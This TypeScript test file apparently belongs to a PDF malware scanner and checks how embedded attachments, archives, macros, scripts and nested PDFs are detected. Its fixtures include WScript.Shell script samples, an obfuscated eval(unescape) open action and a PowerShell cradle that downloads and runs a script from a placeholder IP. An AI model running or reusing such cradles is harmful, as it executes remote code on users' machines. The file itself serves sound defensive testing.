// analyzeEmbeddedFiles on PDFs built in code, one per kind of attachment, and the advanced embedded
// rules on top (the way the deep stage wires them, nested recursion included).
import { describe, expect, it } from "vitest";
import { DEFAULT_LIMITS, defaultBudget } from "../../limits";
import { readPdf } from "../../pdf/document";
import { wrapInXdp } from "../../pdf/testing/pdf-builder";
import { collectFacts } from "../facts/document-facts";
import { EmbeddedFileEntry } from "../report";
import type { DocumentFacts } from "../facts/document-facts";
import type { Finding } from "../report";
import { embeddedNestedPdfMalicious, embeddedNestedPdfSuspicious } from "../rules/embedded-nested-pdf";
import { analyzeEmbeddedFiles, type NestedResult } from "./analyze-embedded-files";
import {
  ELF_FILE,
  PE_FILE,
  analyzeWithEmbedded,
  macroOoxml,
  makeRar4,
  makeRar5,
  makeZip,
  maliciousPdf,
  oleWithVba,
  pdfWithAttachments,
} from "../embedded/testing/embedded-fixtures";

const ids = (r: { findings: { ruleId: string }[] }) => r.findings.map((f) => f.ruleId);

describe("embedded types: each attachment is typed from its content, and the right rules fire", () => {
  it.each([
    // [what, name, data, expected type, rules that must fire]
    ["a PE executable", "setup.exe", PE_FILE, "exe", ["embedded-executable"]],
    ["an ELF executable without extension", "updater", ELF_FILE, "elf", ["embedded-executable"]],
    [
      "a zip holding an .exe",
      "invoice.zip",
      makeZip([
        { name: "docs/readme.txt", data: "hello" },
        { name: "invoice.pdf.exe", data: PE_FILE },
      ]),
      "zip",
      ["embedded-archive-with-executable"],
    ],
    ["a .docm with vbaProject.bin", "offer.docm", macroOoxml("docm"), "docm", ["embedded-active-content"]],
    ["an .xlsm with vbaProject.bin", "prices.xlsm", macroOoxml("xlsm"), "xlsm", ["embedded-active-content"]],
    ["an OLE document with VBA storages", "report.doc", oleWithVba(), "cfb", ["embedded-active-content"]],
    [
      "a .js script",
      "view.js",
      'var sh = new ActiveXObject("WScript.Shell"); sh.Run("cmd /c calc");',
      "js",
      ["embedded-executable"],
    ],
    [
      "a .vbs script",
      "run.vbs",
      'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "calc.exe"\r\n',
      "vbs",
      ["embedded-executable"],
    ],
    [
      "a PowerShell script with no extension",
      "update",
      "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://192.0.2.7/a.ps1')",
      "ps1",
      ["embedded-script-content"],
    ],
    ["an MZ file named .pdf", "Invoice_2291.pdf", PE_FILE, "exe", ["embedded-type-mismatch", "embedded-executable"]],
    [
      "VBScript named .txt",
      "notes.txt",
      'On Error Resume Next\r\nSet o = CreateObject("MSXML2.XMLHTTP")\r\nDim s\r\n',
      "vbs",
      ["embedded-type-mismatch", "embedded-script-content"],
    ],
  ] as const)("%s", async (_what, name, data, type, rules) => {
    const r = await analyzeWithEmbedded(pdfWithAttachments([{ name, data }]));
    expect(r.embedded.entries).toHaveLength(1);
    const entry = r.embedded.entries[0];
    expect(() => EmbeddedFileEntry.parse(entry)).not.toThrow();
    expect(entry).toMatchObject({ name, type, size: typeof data === "string" ? data.length : data.length });
    expect(entry.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(entry.md5).toMatch(/^[0-9a-f]{32}$/);
    for (const id of rules) expect(ids(r)).toContain(id);
  });

  it("reads the names inside the zip without extracting, flags the executables and counts encrypted entries", async () => {
    const zip = makeZip([
      { name: "a.txt", data: "a" },
      { name: "payload/Setup.SCR", data: PE_FILE, encrypted: true },
      { name: "run.lnk", data: "L" },
    ]);
    const r = await analyzeWithEmbedded(pdfWithAttachments([{ name: "files.zip", data: zip }]));
    expect(r.embedded.facts[0].archive).toMatchObject({
      format: "zip",
      names: ["a.txt", "payload/Setup.SCR", "run.lnk"],
      executables: ["payload/Setup.SCR", "run.lnk"],
      encrypted: 1,
      opaque: false,
    });
    expect(r.findings.find((f) => f.ruleId === "embedded-archive-with-executable")?.evidence[0].excerpt).toContain(
      "1 encrypted entry",
    );
  });

  it.each([
    ["RAR 5", makeRar5],
    ["RAR 4", makeRar4],
  ])("reads the names inside a %s from its headers: an encrypted program in it is flagged", async (_v, make) => {
    const rar = make([
      { name: "a.txt", data: "a" },
      { name: "payload/Setup.SCR", data: "not a program's bytes", encrypted: true },
    ]);
    const r = await analyzeWithEmbedded(pdfWithAttachments([{ name: "files.rar", data: rar }]));
    expect(r.embedded.facts[0].archive).toEqual({
      format: "rar",
      names: ["a.txt", "payload/Setup.SCR"],
      executables: ["payload/Setup.SCR"],
      encrypted: 1,
      truncated: false,
      opaque: false,
    });
    expect(r.findings.find((f) => f.ruleId === "embedded-archive-with-executable")?.evidence[0].excerpt).toBe(
      "files.rar (rar, 2 entries, 1 encrypted entry): payload/Setup.SCR",
    );
  });

  it("a RAR whose headers are encrypted (rar -hp) stays opaque, with no finding about its names", async () => {
    const rar = makeRar5([{ name: "Setup.exe", data: "x" }], { headersEncrypted: true });
    const r = await analyzeWithEmbedded(pdfWithAttachments([{ name: "files.rar", data: rar }]));
    expect(r.embedded.facts[0].archive).toMatchObject({ format: "rar", names: [], opaque: true });
    expect(ids(r)).not.toContain("embedded-archive-with-executable");
  });

  it("records VBA macros of OOXML and OLE documents without duplicating the fast rule", async () => {
    const r = await analyzeWithEmbedded(
      pdfWithAttachments([
        { name: "a.docm", data: macroOoxml("docm") },
        { name: "b.doc", data: oleWithVba() },
      ]),
    );
    expect(r.embedded.facts.map((f) => f.macros)).toEqual([true, true]);
    expect(ids(r).filter((id) => id.includes("macro") || id === "embedded-active-content")).toEqual([
      "embedded-active-content",
    ]);
  });

  it("takes attachments of FileAttachment annotations too", async () => {
    const r = await analyzeWithEmbedded(pdfWithAttachments([{ name: "tool.exe", data: PE_FILE, via: "annotation" }]));
    expect(r.embedded.facts[0]).toMatchObject({
      source: "annotation",
      detected: { type: "exe", category: "executable" },
    });
  });

  it("sees through a declared MIME type that lies", async () => {
    const r = await analyzeWithEmbedded(
      pdfWithAttachments([{ name: "scan", data: PE_FILE, subtype: "/application#2Fpdf" }]),
    );
    expect(r.embedded.facts[0].disguise).toEqual({ claimed: "application/pdf", actual: "exe" });
  });

  it("calls a double extension a disguise", async () => {
    const r = await analyzeWithEmbedded(pdfWithAttachments([{ name: "statement.pdf.scr", data: PE_FILE }]));
    expect(r.embedded.facts[0].disguise).toMatchObject({ claimed: ".pdf (double extension)" });
    expect(ids(r)).toContain("embedded-type-mismatch");
  });
});

describe("harmless attachments stay harmless", () => {
  it.each([
    ["a text file", "notes.txt", "Meeting notes: the budget is approved.\n", "txt"],
    [
      "a PNG image",
      "logo.png",
      Buffer.from("89504e470d0a1a0a0000000d4948445200000001000000010806000000", "hex"),
      "png",
    ],
    [
      "a plain zip of documents",
      "docs.zip",
      makeZip([
        { name: "a.txt", data: "a" },
        { name: "b.csv", data: "1,2" },
      ]),
      "zip",
    ],
    [
      "a text file that talks about scripts",
      "readme.txt",
      "To install, run setup and choose the default options. Do not run scripts you do not trust.\n",
      "txt",
    ],
  ] as const)("%s", async (_what, name, data, type) => {
    const r = await analyzeWithEmbedded(pdfWithAttachments([{ name, data }]));
    expect(r.embedded.entries[0].type).toBe(type);
    expect(r.findings.filter((f) => f.severity === "high" || f.severity === "critical").map((f) => f.ruleId)).toEqual(
      [],
    );
    expect(r.summary.verdict).toBe("benign");
  });
});

describe("nested PDFs", () => {
  it("analyses an attached PDF and carries a malicious verdict up with its CVE-free evidence", async () => {
    const outer = pdfWithAttachments([{ name: "statement.pdf", data: maliciousPdf() }]);
    const r = await analyzeWithEmbedded(outer);
    expect(r.nestedCalls).toEqual([{ name: "statement.pdf", depth: 1 }]);
    expect(r.embedded.entries[0]).toMatchObject({ type: "pdf", nested: { verdict: "malicious" } });
    const f = r.findings.find((x) => x.ruleId === "embedded-nested-pdf-malicious");
    expect(f?.evidence[0].excerpt).toMatch(/statement\.pdf \(depth 1\): malicious, score \d+; .*javascript-shellcode/);
    expect(r.summary.verdict).toBe("malicious");
  });

  it("carries a suspicious nested verdict up as embedded-nested-pdf-suspicious", async () => {
    const inner = pdfWithAttachments([], { openActionJs: `eval(unescape("%61%70%70%2e%61%6c%65%72%74%28%31%29"));` });
    const r = await analyzeWithEmbedded(pdfWithAttachments([{ name: "notice.pdf", data: inner }]));
    expect(r.embedded.entries[0]).toMatchObject({ type: "pdf", nested: { verdict: "suspicious" } });
    expect(ids(r)).toContain("embedded-nested-pdf-suspicious");
  });

  it("carries the verdict through two levels", async () => {
    const r = await analyzeWithEmbedded(
      pdfWithAttachments([
        { name: "level1.pdf", data: pdfWithAttachments([{ name: "level2.pdf", data: maliciousPdf() }]) },
      ]),
    );
    expect(r.nestedCalls.map((c) => c.depth)).toEqual([1, 2]);
    expect(r.summary.verdict).toBe("malicious");
  });

  it("analyses a PDF inside an attached XDP package", async () => {
    // compressed: an uncompressed XDP in the first 4 KiB makes looksLikeXdp take the outer PDF for a package
    const r = await analyzeWithEmbedded(
      pdfWithAttachments([{ name: "form.xdp", data: wrapInXdp(maliciousPdf()), flate: true }]),
    );
    expect(r.embedded.entries[0]).toMatchObject({ type: "xdp", nested: { verdict: "malicious" } });
  });

  it("stops at MAX_EMBED_DEPTH when a PDF is nested ten times, and reports the budget", async () => {
    let doc = maliciousPdf();
    for (let i = 10; i >= 1; i--) doc = pdfWithAttachments([{ name: `level${i}.pdf`, data: doc }]);
    const r = await analyzeWithEmbedded(doc);
    // the corpus has a four-level matryoshka (js-exploit 6a76a4b3) whose innermost PDF carries the exploit
    expect(DEFAULT_LIMITS.MAX_EMBED_DEPTH).toBeGreaterThanOrEqual(4);
    expect(r.nestedCalls.map((c) => c.depth)).toEqual(
      Array.from({ length: DEFAULT_LIMITS.MAX_EMBED_DEPTH }, (_, i) => i + 1),
    );
    expect(r.embedded.budgetHits).toContain("MAX_EMBED_DEPTH");
    expect(r.summary.verdict).not.toBe("malicious");
  });

  it("shares MAX_NESTED_PDF_ANALYSES across levels and analyses a repeated attachment once", async () => {
    const inner = maliciousPdf();
    const r = await analyzeWithEmbedded(
      pdfWithAttachments(
        [1, 2, 3, 4].map((i) => ({
          name: `copy${i}.pdf`,
          data: i === 4 ? pdfWithAttachments([{ name: "x.pdf", data: inner }]) : inner,
        })),
      ),
      { limits: { MAX_NESTED_PDF_ANALYSES: 1 } },
    );
    expect(r.nestedCalls).toHaveLength(1);
    expect(r.embedded.facts.slice(0, 3).map((f) => f.nested?.status)).toEqual(["analysed", "analysed", "analysed"]);
    expect(r.embedded.facts[3].nested).toEqual({ status: "skipped", reason: "MAX_NESTED_PDF_ANALYSES" });
    expect(r.embedded.budgetHits).toContain("MAX_NESTED_PDF_ANALYSES");
  });

  it("carries a nested file up no stronger than its own evidence: a model's malicious ranking on a medium finding is suspicious", async () => {
    const limits = { ...DEFAULT_LIMITS };
    const facts = collectFacts(
      readPdf(pdfWithAttachments([{ name: "statement.pdf", data: pdfWithAttachments([]) }]), limits),
      limits,
    );
    const finding = (ruleId: string, severity: Finding["severity"]) =>
      ({ ruleId, title: ruleId, severity, weight: 30, cve: [] }) as unknown as Finding;
    const carriedUp = async (nested: NestedResult) => {
      const r = await analyzeEmbeddedFiles(facts, { depth: 0, limits, analyzeNested: async () => nested });
      const withNested = { ...facts, embeddedAnalysis: r.facts } as DocumentFacts;
      return [embeddedNestedPdfMalicious, embeddedNestedPdfSuspicious]
        .filter((rule) => rule.check(withNested, defaultBudget()))
        .map((rule) => rule.id);
    };
    // a one-link page its model ranked malicious 96: no technique proves it
    expect(
      await carriedUp({ verdict: "malicious", score: 96, findings: [finding("lure-link-dominant-page", "medium")] }),
    ).toEqual(["embedded-nested-pdf-suspicious"]);
    expect(
      await carriedUp({ verdict: "malicious", score: 96, findings: [finding("javascript-shellcode", "critical")] }),
    ).toEqual(["embedded-nested-pdf-malicious"]);
    expect(
      await carriedUp({
        verdict: "malicious",
        score: 70,
        findings: [finding("launch-action", "medium")],
        evidenceFloor: "malicious",
      }),
    ).toEqual(["embedded-nested-pdf-malicious"]);
    expect(
      await carriedUp({ verdict: "suspicious", score: 45, findings: [finding("javascript-obfuscated", "high")] }),
    ).toEqual(["embedded-nested-pdf-suspicious"]);
    expect(await carriedUp({ verdict: "benign", score: 3, findings: [] })).toEqual([]);
  });

  it("records a nested analysis that throws as failed, without failing the document", async () => {
    const limits = { ...DEFAULT_LIMITS };
    const facts = collectFacts(readPdf(pdfWithAttachments([{ name: "a.pdf", data: maliciousPdf() }]), limits), limits);
    const r = await analyzeEmbeddedFiles(facts, {
      depth: 0,
      limits,
      analyzeNested: async () => {
        throw new Error("worker crashed");
      },
    });
    expect(r.facts[0].nested).toEqual({ status: "failed", message: "worker crashed" });
    expect(r.entries[0].nested).toBeUndefined();
  });
});

describe("portfolios and budgets", () => {
  it("reports a portfolio as context and lists its files", async () => {
    const r = await analyzeWithEmbedded(
      pdfWithAttachments(
        [
          { name: "cover.pdf", data: pdfWithAttachments([]) },
          { name: "data.csv", data: "a,b\n1,2\n" },
        ],
        { catalog: "/Collection << /Type /Collection /View /D /D (cover.pdf) >>" },
      ),
    );
    const f = r.findings.find((x) => x.ruleId === "portfolio-document");
    expect(f).toMatchObject({ severity: "low" });
    expect(f?.evidence[0].excerpt).toBe('/Collection /View /D, 2 file(s), opens "cover.pdf" first');
    expect(r.summary.verdict).toBe("benign");
  });

  it("analyses at most MAX_EMBEDDED_FILES attachments", async () => {
    const files = Array.from({ length: 5 }, (_, i) => ({ name: `f${i}.txt`, data: `file ${i}` }));
    const r = await analyzeWithEmbedded(pdfWithAttachments(files), { limits: { MAX_EMBEDDED_FILES: 3 } });
    expect(r.embedded.entries).toHaveLength(3);
    expect(r.embedded.budgetHits).toContain("MAX_EMBEDDED_FILES");
  });

  it("does not list XFA packets typed /EmbeddedFile as attachments", async () => {
    const { PdfBuilder } = await import("../../pdf/testing/pdf-builder");
    const b = new PdfBuilder();
    const tpl = b.addStream("/Type /EmbeddedFile", '<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"/>');
    b.addCatalog(`/AcroForm << /Fields [] /XFA [(template) ${tpl} 0 R] >>`);
    const r = await analyzeWithEmbedded(b.build());
    expect(r.embedded.entries).toEqual([]);
  });
});
